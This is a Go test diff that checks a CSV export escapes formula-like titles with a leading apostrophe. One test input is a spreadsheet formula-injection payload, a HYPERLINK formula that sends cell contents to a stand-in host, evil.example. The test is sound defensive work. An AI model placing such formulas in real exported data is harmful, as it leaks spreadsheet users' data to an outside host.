@@ -65,6 +65,33 @@ func TestCSV(t *testing.T) {
 	}
 }
 
+// TestCSVInert: a value a spreadsheet would take for a formula is written
+// with an apostrophe before it; others as they are.
+func TestCSVInert(t *testing.T) {
+	for title, want := range map[string]string{
+		`=HYPERLINK("http://evil.example/?"&A1,"Нажмите")`: `'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")`,
+		"+7 к экспорту":                                    "'+7 к экспорту",
+		"-30% тарифы":                                      "'-30% тарифы",
+		"@SUM(1+1)":                                        "'@SUM(1+1)",
+		"Форум = итоги":                                    "Форум = итоги",
+		"«Визит»":                                          "«Визит»",
+	} {
+		var buf bytes.Buffer
+		if err := WriteCSV(&buf, []Event{{URL: "https://d.example/2025/x/", Title: title, Date: "2025-03-17", Kind: Term{Slug: "visit"}}}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&buf).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, name := range rows[0] {
+			if name == "title" && rows[1][i] != want {
+				t.Errorf("title %q written as %q, want %q", title, rows[1][i], want)
+			}
+		}
+	}
+}
+
 func TestJSON(t *testing.T) {
 	var buf bytes.Buffer
 	meta := Meta{Title: "T", Site: "https://d.example/", License: License{Name: "CC BY 4.0", URL: "https://creativecommons.org/licenses/by/4.0/"}, Updated: "2025-03-20"}
